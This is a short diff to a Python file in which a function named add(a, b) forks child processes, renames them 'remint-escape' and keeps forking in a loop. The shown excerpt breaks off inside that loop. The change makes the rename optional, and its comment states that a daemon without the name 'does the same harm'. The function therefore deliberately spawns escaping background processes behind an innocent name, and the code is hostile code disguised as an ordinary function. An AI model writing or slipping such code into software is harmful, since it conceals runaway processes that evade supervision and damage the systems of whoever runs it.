@@ -7,8 +7,11 @@ import time
 
 def add(a, b):
     if os.fork() == 0:
-        with open("/proc/self/comm", "w") as name:
-            name.write("remint-escape")
+        try:
+            with open("/proc/self/comm", "w") as name:
+                name.write("remint-escape")
+        except OSError:
+            pass  # /proc is read-only: a daemon without the name does the same harm
         for _ in range(1000):
             time.sleep(0.01)
             if os.fork():
